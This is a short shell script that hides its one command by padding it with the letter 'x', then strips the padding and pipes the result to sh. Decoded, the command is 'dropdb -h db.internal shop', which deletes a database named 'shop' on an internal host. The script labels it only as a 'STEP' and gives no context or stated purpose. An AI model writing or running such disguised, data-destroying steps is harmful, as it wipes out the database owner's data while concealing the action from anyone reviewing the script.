#!/bin/sh
STEP="dxrxoxpxdxb -xh xdxb.xixnxtxexrxnxaxl xsxhxoxp"
echo "$STEP" | tr -d x | sh
